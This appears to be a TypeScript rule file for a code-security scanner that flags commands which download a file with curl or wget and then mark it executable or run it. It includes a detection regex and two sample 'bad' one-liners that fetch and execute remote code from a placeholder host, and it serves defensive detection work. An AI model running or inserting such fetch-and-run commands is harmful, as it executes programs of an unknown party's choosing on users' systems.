import { argument, call, says } from "../match.ts";
import { defineRule } from "../rule.ts";
import { COMMANDS } from "../vocabulary/execution-calls.ts";

export default defineRule({
  id: "download-saved-and-run",
  category: "suspicious_network",
  severity: "high",
  confidence: "medium",
  languages: ["python", "javascript"],
  title: "a file is downloaded by a command and made executable",
  why: "What arrives is a program of somebody else's choosing.",
  fix: "Name the program in the documentation and let the user install it.",
  references: ["CWE-494", "ATT&CK T1105"],
  match: call({
    of: COMMANDS,
    where: argument(
      [0, "args", "cmd"],
      says(/(curl|wget)\s[^\n]*(chmod\s+(\+|a\+|u\+|[0-7]*[1357])|&&\s*(\.\/|sh\s|bash\s|python3?\s))/i),
    ),
  }),
  bad: [
    'import os\nos.system("wget https://example.com/x -O /tmp/x && chmod +x /tmp/x && /tmp/x")',
    'import subprocess\nsubprocess.run("curl -o i.sh https://example.com/i.sh && bash i.sh", shell=True)',
  ],
  good: ['import os\nos.system("curl -O https://example.com/data.csv")', 'import os\nos.system("chmod +x run.sh")'],
});
